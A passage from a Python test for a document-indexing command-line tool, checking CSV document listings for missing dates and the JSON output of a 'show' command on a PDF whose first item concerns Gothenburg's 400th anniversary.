    rows = list(csv.DictReader(io.StringIO(cli("documents", "--db", str(db_path), "--csv").stdout)))
    assert any("date" in r["missing"] for r in rows)
    shown = json.loads(cli("show", "kf.pdf", "--db", str(db_path), "--json").stdout)
    assert [(i["number"], i["page_start"], i["page_end"]) for i in shown["items"]] == [("143", 1, 1), ("144", 2, 2)]
    assert shown["items"][0]["title"].startswith("Information om Göteborgs 400-årsjubileum")
